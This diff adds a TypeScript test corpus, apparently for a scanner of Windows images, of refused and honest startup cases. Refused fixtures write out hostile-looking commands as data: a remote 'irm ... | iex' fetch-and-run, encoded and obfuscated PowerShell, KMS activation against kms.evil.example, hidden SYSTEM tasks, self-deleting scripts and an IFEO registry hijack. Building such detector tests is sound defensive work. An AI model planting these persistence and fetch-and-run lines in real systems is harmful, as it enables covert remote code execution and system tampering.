@@ -1,0 +1,214 @@
+// Cases that something starts: tasks, scripts of Setup and logon, links, answer files; disguised, and honest ones.
+
+import type { CorpusCases } from './case.ts';
+import { joined, wide } from './decoys.ts';
+import { shellLink } from './link.ts';
+import { keyValues, taskOf } from './tasks.ts';
+
+const SCRIPTS = '/Windows/Setup/Scripts';
+const EVIL = 'kms.evil.example';
+const activate = (host: string) =>
+  `cscript //nologo %windir%\\system32\\slmgr.vbs /skms ${host}\r\ncscript //nologo %windir%\\system32\\slmgr.vbs /ato\r\n`;
+const setup = (text: string, more: Readonly<Record<string, string | Uint8Array>> = {}) => ({
+  files: { [`${SCRIPTS}/SetupComplete.cmd`]: text, ...more },
+});
+const fetched = joined('irm https://get.', 'activated', '.win | iex');
+const encoded = (text: string) => wide(text).toString('base64');
+const answer = (pass: string, inner: string, component = 'Microsoft-Windows-Shell-Setup') =>
+  `<?xml version="1.0" encoding="utf-8"?><unattend xmlns="urn:schemas-microsoft-com:unattend" xmlns:wcm="http://schemas.microsoft.com/WMIConfig/2002/State"><settings pass="${pass}"><component name="${component}" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS">${inner}</component></settings></unattend>`;
+const logonCommand = (line: string) =>
+  answer(
+    'oobeSystem',
+    `<FirstLogonCommands><SynchronousCommand wcm:action="add"><Order>1</Order><CommandLine>${line}</CommandLine></SynchronousCommand></FirstLogonCommands>`,
+  );
+
+export const startCases: CorpusCases = {
+  refused: [
+    {
+      name: 'the script of Setup activates at a host that nobody allowed',
+      rows: ['G12', 'G17'],
+      plant: setup(`@echo off\r\n${activate(EVIL)}`),
+    },
+    {
+      name: 'three calls down',
+      rows: ['E20', 'G17'],
+      plant: setup('@echo off\r\ncall %~dp0setup1.cmd\r\n', {
+        [`${SCRIPTS}/setup1.cmd`]: 'call "%~dp0more\\a.bat"\r\n',
+        [`${SCRIPTS}/more/a.bat`]: `start /wait cmd /c ${'C:\\Windows\\Setup\\Scripts\\more\\b.cmd'}\r\n`,
+        [`${SCRIPTS}/more/b.cmd`]: activate(EVIL),
+      }),
+    },
+    {
+      name: 'with carets and variables that hold nothing',
+      rows: ['E16'],
+      plant: setup(
+        `@echo off\r\nset nil=\r\ns%nil%lm^gr.v%nil%bs /sk%nil%ms kms.%nil%evil.ex%nil%ample\r\ncscript sl%nil%mgr.vbs /a%nil%to\r\n`,
+      ),
+    },
+    {
+      name: 'as parts of a word',
+      rows: ['E16'],
+      plant: setup(`@echo off\r\nset a=slmgr.vbsxx\r\ncscript %a:~0,9% /skms ${EVIL}\r\ncscript %a:~0,9% /ato\r\n`),
+    },
+    {
+      name: 'in two bytes a letter without a mark',
+      rows: ['E12'],
+      plant: setup('@call %~dp0u.cmd\r\n', { [`${SCRIPTS}/u.cmd`]: wide(activate(EVIL)) }),
+    },
+    { name: 'an encoded command', rows: ['E13'], plant: setup(`powershell -NoP -eNc ${encoded(fetched)}\r\n`) },
+    {
+      name: 'an encoded command by another abbreviation',
+      rows: ['E13'],
+      plant: setup(`powershell.exe /ec ${encoded(`slmgr /skms ${EVIL}; slmgr /ato`)}\r\n`),
+    },
+    {
+      name: 'put together from pieces',
+      rows: ['E16', 'G12'],
+      plant: setup('powershell -File %~dp0p.ps1\r\n', {
+        [`${SCRIPTS}/p.ps1`]: `$u = 'https://get.' + 'acti' + 'vated' + '.win'\ni\`rm $u | i\`ex\n`,
+      }),
+    },
+    {
+      name: 'from Base64 inside',
+      rows: ['E13'],
+      plant: setup('powershell -File %~dp0p.ps1\r\n', {
+        [`${SCRIPTS}/p.ps1`]: `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encoded(fetched)}')))\n`,
+      }),
+    },
+    {
+      name: 'a script that removes itself and what it called',
+      rows: ['G17'],
+      plant: setup('@echo off\r\ncall "%~dp0x.cmd" /HWID\r\ncd \\\r\n(goto) 2>nul & rd /s /q "%~dp0"\r\n', {
+        [`${SCRIPTS}/x.cmd`]: '@echo off\r\nclipup -v -o\r\n',
+      }),
+    },
+    {
+      name: 'a task of SYSTEM that activates somewhere else',
+      rows: ['G7'],
+      plant: taskOf('\\Renewal', `%windir%\\system32\\cscript.exe %windir%\\system32\\slmgr.vbs /skms ${EVIL}`),
+    },
+    {
+      name: 'a hidden task that runs a script from where programs keep data',
+      rows: ['G7', 'E32'],
+      plant: taskOf('\\Update', 'C:\\ProgramData\\Update\\u.cmd', { hidden: true, files: { '/ProgramData/Update/u.cmd': activate(EVIL) } }),
+    },
+    {
+      name: 'a task in the registry alone',
+      rows: ['E32', 'G7'],
+      plant: taskOf('\\Quiet', `cmd.exe /c slmgr.vbs /skms ${EVIL} & slmgr.vbs /ato`, { only: 'registry' }),
+    },
+    {
+      name: 'a task as a file alone',
+      rows: ['E32', 'G7'],
+      plant: taskOf('\\Loud', `cmd.exe /c slmgr.vbs /skms ${EVIL} & slmgr.vbs /ato`, { only: 'file' }),
+    },
+    {
+      name: 'one more task in the folder of the protection service',
+      rows: ['G7', 'E33', 'F03'],
+      plant: taskOf('\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcTrigger', '%windir%\\system32\\host32.exe'),
+    },
+    {
+      name: 'a link in the start folder that fetches',
+      rows: ['E18', 'E31'],
+      plant: {
+        files: {
+          '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Sync.lnk': shellLink(
+            '..\\..\\..\\..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+            `-w hidden -c "${fetched}"`,
+          ),
+        },
+      },
+    },
+    {
+      name: 'a first logon that activates',
+      rows: ['E30', 'G17'],
+      plant: { files: { '/Windows/Panther/unattend.xml': logonCommand(`cmd /c slmgr /skms ${EVIL} &amp;&amp; slmgr /ato`) } },
+    },
+    {
+      name: 'a command while Windows is made ready',
+      rows: ['E30'],
+      plant: {
+        files: {
+          '/Windows/System32/Sysprep/unattend.xml': answer(
+            'specialize',
+            `<RunSynchronous><RunSynchronousCommand wcm:action="add"><Order>1</Order><Path>powershell -c ${fetched}</Path></RunSynchronousCommand></RunSynchronous>`,
+            'Microsoft-Windows-Deployment',
+          ),
+        },
+      },
+    },
+    {
+      name: 'a script of policy at every start',
+      rows: ['E31', 'G17'],
+      plant: {
+        files: {
+          '/Windows/System32/GroupPolicy/Machine/Scripts/scripts.ini': '\r\n[Startup]\r\n0CmdLine=start.cmd\r\n0Parameters=\r\n',
+          '/Windows/System32/GroupPolicy/Machine/Scripts/Startup/start.cmd': activate(EVIL),
+        },
+      },
+    },
+    {
+      name: 'files for a new system in the folder of a distribution share',
+      rows: ['E19', 'G17'],
+      plant: { files: { '/$OEM$/$$/Setup/Scripts/SetupComplete.cmd': activate(EVIL) } },
+    },
+    {
+      name: 'the address in a script that nothing starts, a known way in',
+      rows: ['G12'],
+      plant: { files: { '/Users/Public/fix.ps1': `[ScriptBlock]::Create((${joined('irm https://get.', 'activated', '.win')})) /HWID\n` } },
+    },
+    {
+      name: 'a key handed to the machine, and a host',
+      rows: ['G12', 'K'],
+      plant: setup(`cscript slmgr.vbs /ipk NPPR9-FWDCX-D2C8J-H872K-2YT43\r\n${activate(EVIL)}`),
+    },
+    {
+      name: 'the name of the service is replaced in the registry by a script',
+      rows: ['G12', 'G1'],
+      plant: setup(
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\SppExtComObj.exe" /v VerifierDlls /d x.dll /f\r\n',
+      ),
+    },
+  ],
+  honest: [
+    {
+      name: 'the script of Setup activates at the right host',
+      rows: ['T14'],
+      plant: setup(`@echo off\r\n${activate('kms.corp.example')}`),
+    },
+    {
+      name: 'Office at the right host',
+      rows: ['T30'],
+      plant: setup(
+        'cscript "C:\\Program Files\\Microsoft Office\\Office16\\ospp.vbs" /sethst:kms.corp.example\r\ncscript "C:\\Program Files\\Microsoft Office\\Office16\\ospp.vbs" /act\r\n',
+      ),
+    },
+    {
+      name: 'a script that takes an activator away',
+      rows: ['T01'],
+      plant: setup(
+        `@echo off\r\nsc delete "${joined('Service KMS', 'ELDI')}"\r\nschtasks /Delete /TN "${joined('AutoPico Daily', ' Restart')}" /F\r\nrd /s /q "C:\\Program Files\\${joined('KMS', 'pico')}"\r\n`,
+      ),
+    },
+    { name: 'the tasks of the protection service', rows: ['T19'], plant: {} },
+    { name: 'a task of a vendor', rows: ['G7'], plant: taskOf('\\Vendor\\Updater', '"C:\\Program Files\\Vendor\\updater.exe" /silent') },
+    {
+      name: 'a script without any of it',
+      rows: ['G12'],
+      plant: setup('@echo off\r\nreg add HKLM\\SOFTWARE\\Corp /v Site /d 1 /f\r\npowercfg /h off\r\n'),
+    },
+    {
+      name: 'a link in the start folder to a program',
+      rows: ['E18'],
+      plant: {
+        files: {
+          '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Agent.lnk': shellLink(
+            '..\\..\\..\\..\\..\\..\\Program Files\\Agent\\agent.exe',
+            '--tray',
+          ),
+        },
+      },
+    },
+    { name: 'keys of two values', rows: ['T41'], plant: keyValues() },
+  ],
+};
